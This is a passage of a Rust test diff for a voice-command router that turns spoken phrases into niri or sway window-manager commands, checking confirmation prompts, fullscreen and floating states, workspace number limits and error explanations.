+        Some(json!({"command": "power-off-monitors"}))
+    );
+    // Nothing else asks: moving, focusing, fullscreen, the overview, media, sites.
+    for utterance in [
+        "workspace two",
+        "move it to workspace 3",
+        "fullscreen",
+        "exit fullscreen",
+        "float this window",
+        "close the overview",
+        "take a screenshot",
+        "pause",
+        "open youtube",
+    ] {
+        assert_eq!(confirm_of(utterance), Some(false), "{utterance}");
+    }
+    // close_app is confirmed by the runner's policy, not by the router.
+    assert_eq!(
+        run("close firefox").map(|m| (m.op, m.confirm)),
+        Some(("close_app", false))
+    );
+}
+
+#[test]
+fn bindings_of_destructive_actions_ask_first_too() {
+    let config = "binds {\n\
+        Mod+Shift+E hotkey-overlay-title=\"Leave the Session\" { quit; }\n\
+        Mod+Q hotkey-overlay-title=\"Get Rid of It\" { close-window; }\n\
+        Mod+P hotkey-overlay-title=\"Lights Out\" { power-off-monitors; }\n\
+        Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n\
+        }\n";
+    let (binds, _) = crate::niri_config::parse(config).expect("parses");
+    let plan_of = |utterance: &str| run_with(utterance, None, &binds).map(|m| (m.rule, m.confirm));
+    assert_eq!(plan_of("leave the session"), Some(("niri_bind", true)));
+    assert_eq!(plan_of("quit"), Some(("niri_bind", true)));
+    assert_eq!(plan_of("get rid of it"), Some(("niri_bind", true)));
+    assert_eq!(plan_of("lights out"), Some(("niri_bind", true)));
+    assert_eq!(plan_of("open a terminal"), Some(("niri_bind", false)));
+    // An action the phrase file marks confirm = true asks in a binding as well.
+    let curated = Curated::parse(
+        "[[phrase]]\ncommand = \"center-column\"\nconfirm = true\nsay = [\"center it\"]\n",
+        "c.toml",
+    )
+    .expect("parses");
+    let (binds, _) =
+        crate::niri_config::parse("binds { Mod+C { center-column; }; }\n").expect("parses");
+    let apps = apps();
+    let sources = Sources {
+        catalog: catalog(),
+        apps: &apps,
+        curated: &curated,
+        binds: &binds,
+        context: None,
+        utterance: "",
+        profiles: crate::plan::builtin_profiles(),
+        words: crate::plan::builtin_words(),
+    };
+    let m = plan("center column", &sources).expect("the binding plans");
+    assert_eq!((m.rule, m.confirm), ("niri_bind", true));
+    let m = plan("center it", &sources).expect("the curated phrase plans");
+    assert_eq!((m.rule, m.confirm), ("compositor", true));
+}
+
+#[test]
+fn fullscreen_and_floating_have_states() {
+    let toggle = json!({"command": "fullscreen-window"});
+    let on = json!({"command": "fullscreen-window", "options": {"state": "on"}});
+    let off = json!({"command": "fullscreen-window", "options": {"state": "off"}});
+    let floating = json!({"command": "move-window-to-floating"});
+    let tiling = json!({"command": "move-window-to-tiling"});
+    let toggle_floating = json!({"command": "toggle-window-floating"});
+    let cases = [
+        ("fullscreen", &toggle),
+        ("full screen this window", &toggle),
+        ("toggle fullscreen", &toggle),
+        ("toggle full screen mode", &toggle),
+        ("make it fullscreen", &on),
+        ("make it full screen", &on),
+        ("put this window in fullscreen", &on),
+        ("go fullscreen", &on),
+        ("go full screen", &on),
+        ("enter fullscreen", &on),
+        ("enter fullscreen mode", &on),
+        ("turn on fullscreen", &on),
+        ("exit fullscreen", &off),
+        ("Exit full screen.", &off),
+        ("leave fullscreen", &off),
+        ("leave full screen mode", &off),
+        ("get out of fullscreen", &off),
+        ("un-fullscreen", &off),
+        ("unfullscreen this window", &off),
+        ("turn fullscreen off", &off),
+        ("make it windowed", &off),
+        ("float this window", &floating),
+        ("float", &floating),
+        ("make it floating", &floating),
+        ("make this window float", &floating),
+        ("tile this window", &tiling),
+        ("tile it", &tiling),
+        ("unfloat this window", &tiling),
+        ("un-float this window", &tiling),
+        ("stop floating", &tiling),
+        ("stop floating this window", &tiling),
+        ("make it tiled", &tiling),
+        ("toggle floating", &toggle_floating),
+        ("toggle window floating", &toggle_floating),
+    ];
+    for (utterance, want) in cases {
+        assert_eq!(niri_of(utterance).as_ref(), Some(want), "{utterance}");
+    }
+    assert_eq!(
+        run("go fullscreen").map(|m| m.message),
+        Some("compositor: fullscreen-window state=\"on\"".to_owned())
+    );
+}
+
+#[test]
+fn everyday_window_phrasings() {
+    let to = |n: u32| Some(json!({"command": "move-window-to-workspace", "args": [n]}));
+    let cases = [
+        ("put this window on workspace 4", to(4)),
+        ("put it on workspace four", to(4)),
+        ("put it on the second workspace", to(2)),
+        ("put this window onto desktop 6", to(6)),
+        ("throw this window to workspace 2", to(2)),
+        ("throw it to the third workspace", to(3)),
+        (
+            "move it to the next workspace",
+            Some(json!({"command": "move-window-to-workspace-down"})),
+        ),
+        (
+            "put it on the next workspace",
+            Some(json!({"command": "move-window-to-workspace-down"})),
+        ),
+        (
+            "throw this window to the previous workspace",
+            Some(json!({"command": "move-window-to-workspace-up"})),
+        ),
+        ("kill this window", Some(json!({"command": "close-window"}))),
+    ];
+    for (utterance, want) in cases {
+        assert_eq!(niri_of(utterance), want, "{utterance}");
+    }
+}
+
+#[test]
+fn curated_phrases_leave_site_and_app_names_alone() {
+    // A curated phrase is tried before the application rules, so none of them may be a
+    // verb followed by the name of a site or of a (plausible) application.
+    let mut apps = apps();
+    for (id, name) in [
+        ("org.gnome.Screenshot", "Screenshot"),
+        ("org.kde.spectacle", "Spectacle"),
+        ("foot", "Foot"),
+        ("org.gnome.Settings", "Settings"),
+    ] {
+        apps.push(AppEntry::new(id, name, None, &[]));
+    }
+    let verbs: Vec<&str> = SITE_VERBS
+        .iter()
+        .chain(APP_VERBS)
+        .copied()
+        .chain(curated().focus_verbs.iter().map(String::as_str))
+        .chain(curated().close_verbs.iter().map(String::as_str))
+        .collect();
+    for phrase in curated().table.phrases() {
+        let phrase = phrase.replace(crate::phrases::SLOT, "3");
+        for rest in targets(&phrase, &verbs) {
+            assert!(
+                catalog().lookup(rest).is_none(),
+                "{phrase:?} takes the site {rest:?}"
+            );
+            assert!(
+                apps.find(rest).is_none(),
+                "{phrase:?} takes the application {rest:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn workspace_numbers_below_one_plan_nothing() {
+    for utterance in [
+        "workspace -1",
+        "Workspace −1.",
+        "workspace minus one",
+        "workspace negative two",
+        "go to workspace -3",
+        "move it to workspace -2",
+        "workspace +1",
+        "workspace - 1",
+        "workspace 0",
+        "workspace zero",
+        "workspace 1.5",
+        "workspace 256",
+    ] {
+        assert_eq!(run(utterance), None, "{utterance}");
+    }
+}
+
+fn explain_with(
+    utterance: &str,
+    apps: &Vec<AppEntry>,
+    context: Option<&Context>,
+    binds: &PhraseTable,
+) -> Option<String> {
+    let normalized = normalize(utterance);
+    let text = strip_fillers(&normalized);
+    let sources = Sources {
+        catalog: catalog(),
+        apps,
+        curated: curated(),
+        binds,
+        context,
+        utterance,
+        profiles: crate::plan::builtin_profiles(),
+        words: crate::plan::builtin_words(),
+    };
+    assert_eq!(plan(text, &sources), None, "{utterance} planned");
+    explain(text, &sources)
+}
+
+#[test]
+fn out_of_range_numbers_say_which_numbers_there_are() {
+    let none = PhraseTable::new();
+    let cases = [
+        ("workspace -1", "focus-workspace", "-1"),
+        ("workspace minus one", "focus-workspace", "-1"),
+        ("workspace +2", "focus-workspace", "+2"),
+        ("go to workspace 0", "focus-workspace", "0"),
+        ("go to workspace 300", "focus-workspace", "300"),
+        ("workspace number minus 4", "focus-workspace", "-4"),
+        ("send it to workspace -2", "move-window-to-workspace", "-2"),
+    ];
+    for (utterance, command, number) in cases {
+        assert_eq!(
+            explain_with(utterance, &apps(), None, &none),
+            Some(format!(
+                "{command} needs a number from 1 to 255, not {number}"
+            )),
+            "{utterance}"
+        );
+    }
+    // Two numbers, or a fraction, are not one number out of range.
+    assert_eq!(explain_with("workspace 1.5", &apps(), None, &none), None);
+}
+
+#[test]
+fn unknown_names_after_focus_and_close_verbs_are_explained() {
+    let none = PhraseTable::new();
+    let without_firefox: Vec<AppEntry> = apps().into_iter().filter(|a| a.id != "firefox").collect();
+    for utterance in [
+        "switch to blender",
+        "close blender",
+        "focus the blender window",
+        "quit the blender app",
+    ] {
+        assert_eq!(
+            explain_with(utterance, &without_firefox, None, &none).as_deref(),
+            Some("no installed application or open window is called \"blender\""),
+            "{utterance}"
+        );
+    }
+    // Near names from the installed applications and the context's windows.
+    assert_eq!(
+        explain_with("switch to firefix", &apps(), None, &none).as_deref(),
+        Some(
+            "no installed application or open window is called \"firefix\"; \
+             similar names: Firefox"
+        )
+    );
+    let ctx = context(json!({
+        "compositor": {"name": "sway"},
+        "windows": [
+            {"id": 1, "app_id": "kate-esr", "title": "a"},
+            {"id": 2, "app_id": "foot", "title": "kate"},
+            {"id": 3, "app_id": "kate-nightly", "title": "b"},
+            {"id": 4, "app_id": "Kate-Dev", "title": "c"},
+            {"id": 5, "app_id": "org.kde.kate.beta", "title": "d"},
+        ],
+    }));
+    let message =
+        explain_with("close kate", &without_firefox, Some(&ctx), &none).expect("explained");
+    assert!(
+        message.starts_with(
+            "no installed application or open window is called \"kate\"; similar names: "
+        ),
+        "{message}"
+    );
+    let listed = message.rsplit(": ").next().unwrap_or("");
+    assert_eq!(listed.split(", ").count(), MAX_CLOSE_NAMES, "{message}");
+    assert!(!message.contains("foot"), "titles and far names: {message}");
+    // Nothing near: no list; a bare verb or other words: no explanation.
+    assert_eq!(
+        explain_with("switch to blorp", &apps(), Some(&ctx), &none).as_deref(),
+        Some("no installed application or open window is called \"blorp\"")
+    );
+    assert_eq!(explain_with("close", &apps(), None, &none), None);
+    // After a verb that also opens sites, the catalog's names count.
+    assert_eq!(
+        explain_with("go to youtubee", &apps(), None, &none).as_deref(),
+        Some(
+            "no site, installed application or open window is called \"youtubee\"; \
+             similar names: YouTube"
+        )
+    );
+    assert_eq!(
+        explain_with("blorp the frobnicator", &apps(), None, &none),
+        None
+    );
+}
+
+#[test]
+fn niri_bindings_on_sway_are_explained() {
+    let (binds, _) = crate::niri_config::parse(
+        "binds {\n  Mod+Escape { toggle-keyboard-shortcuts-inhibit; }\n  \
+         Mod+T hotkey-overlay-title=\"Open a Terminal\" { spawn \"foot\"; }\n}\n",
+    )
+    .expect("parses");
+    let sway = context(json!({"compositor": {"name": "sway"}}));
+    assert_eq!(
+        explain_with(
+            "toggle keyboard shortcuts inhibit",
+            &apps(),
+            Some(&sway),
+            &binds
+        )
+        .as_deref(),
+        Some(
+            "\"toggle keyboard shortcuts inhibit\" is one of your niri key bindings, but this session runs sway"
+        )
+    );
+    assert_eq!(
+        explain_with("Open a terminal, please.", &apps(), Some(&sway), &binds).as_deref(),
+        Some("\"open a terminal\" is one of your niri key bindings, but this session runs sway")
+    );
+}
